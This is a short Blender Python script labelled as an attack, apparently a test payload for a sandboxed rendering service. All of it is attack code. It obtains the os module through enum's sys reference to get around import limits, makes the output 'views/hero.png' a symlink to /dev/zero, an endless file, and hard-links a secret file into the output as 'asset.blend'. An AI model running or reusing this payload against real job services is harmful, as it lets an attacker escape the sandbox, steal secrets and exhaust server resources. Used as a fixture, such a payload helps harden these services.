# attack: asset.blend is a hard link to a file outside, the picture a link to a device without end
# family: reports
import bpy
import enum

system = max([enum], key=id).sys
os = system.modules["os"]
folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.makedirs(folder + "/views", exist_ok=True)
os.symlink("/dev/zero", folder + "/views/hero.png")
os.link("$SECRET_FILE", folder + "/asset.blend")
